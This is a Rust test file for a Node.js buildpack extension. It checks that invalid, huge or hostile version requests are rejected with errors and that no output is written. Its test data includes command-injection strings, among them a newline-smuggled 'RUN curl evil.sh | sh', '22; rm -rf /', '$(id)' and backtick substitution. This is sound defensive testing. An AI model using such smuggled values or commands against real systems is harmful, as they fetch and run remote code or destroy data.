//! Hostile or missing inputs: refused with an error naming them and nothing written.

use crate::support::{
    INVALID_REQUEST, NODEJS, UBI8, app, generate_on, generate_ubi8, plan, unsatisfiable,
};
use cnb_harness::ubi_extension::{
    assert_hostile_run_image_overrides_refused, assert_only_ubi_stacks,
};
use cnb_harness::{Module, assert_contains};

/// `version` in package.json `engines.node` is refused as not a version range.
fn assert_not_a_version_range(module: &Module, version: &str) {
    let outcome = generate_ubi8(module, "node-npm-engines", "package.json", version);
    let expected = format!(
        "  the Node.js version {version:?} requested by package.json is not a version range"
    );
    outcome.assert_error(INVALID_REQUEST, &[&expected]);
}

#[test]
fn hostile_values_are_rejected_and_nothing_is_written() {
    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
    for version in [
        "22\nRUN curl evil.sh | sh",
        "22; rm -rf /",
        "$(id)",
        "22 && id",
        "'22'",
        "\"22\"",
        "`id`",
        "22 foo",
    ] {
        assert_not_a_version_range(&module, version);
    }
    let engines_22 = plan(&[(Some("package.json"), "22")]);
    assert_hostile_run_image_overrides_refused(&module, app("node-npm-engines"), &engines_22);
    // A hostile version source only reaches the log and the error, escaped.
    let outcome = generate_ubi8(&module, "node-npm-engines", "x\\nRUN id", "~99");
    outcome.assert_error(
        &unsatisfiable("~99"),
        &["The constraint comes from \"x\\nRUN id\"."],
    );
    assert_contains!(outcome.process.stdout, "      \"x\\nRUN id\" -> \"~99\"\n");
}

/// Issue 13: `~x` or `=*` in package.json `engines.node` aborted generate (exit 134, "entered
/// unreachable code" in the range parser). Now an error naming the request and its source.
#[test]
fn wildcards_after_an_operator_are_errors_not_aborts() {
    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
    for version in ["~x", "=*", "~0.x.0 ~x", "^x.1"] {
        assert_not_a_version_range(&module, version);
    }
}

/// Issue 13: a huge request is quoted by a bounded prefix in the log and the error (1 MiB: the
/// toolkit refuses a Buildpack Plan over 4 MiB before the extension sees it).
#[test]
fn a_huge_request_is_quoted_short() {
    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
    let huge = "2".repeat(1 << 20);
    let outcome = generate_ubi8(&module, "node-npm-engines", "BP_NODE_VERSION", &huge);
    outcome.assert_error(
        INVALID_REQUEST,
        &[
            "is not a version range (it is longer than 256 bytes)",
            "(cut, 1048576 bytes in all)",
        ],
    );
    assert!(outcome.process.stderr.len() < 1024);
    assert!(outcome.process.stdout.len() < 4096);
}

#[test]
fn no_node_entry_and_unknown_stacks_are_errors() {
    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
    let npm_only = "[[entries]]\nname = \"npm\"\n";
    let outcome = generate_on(&module, app("empty-app"), UBI8, npm_only);
    outcome.assert_error(
        "Node.js no longer requested by build plan",
        &["  The Buildpack Plan has no \"node\" entry"],
    );

    assert_only_ubi_stacks(&module, &plan(&[(None, "")]));
}
